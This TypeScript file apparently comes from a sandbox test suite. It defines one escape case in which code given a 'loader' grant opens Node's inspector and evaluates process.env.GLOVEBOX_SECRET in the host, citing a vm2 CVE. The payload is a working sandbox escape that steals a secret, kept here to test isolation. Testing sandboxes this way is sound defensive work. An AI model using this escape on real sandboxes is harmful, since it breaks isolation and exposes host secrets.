import { attack } from '../attack.ts';

/** The inspector evaluates expressions in the host (vm2 CVE-2026-47140). */
export const escape = attack({
	grants: ['loader'],
	source: `
		const { Session } = await loader.load('inspector');
		const session = new Session();
		session.connect();
		return await new Promise((done) => session.post('Runtime.evaluate', { expression: 'process.env.GLOVEBOX_SECRET' }, (_error, answer) => done(answer?.result?.value)));
	`,
});
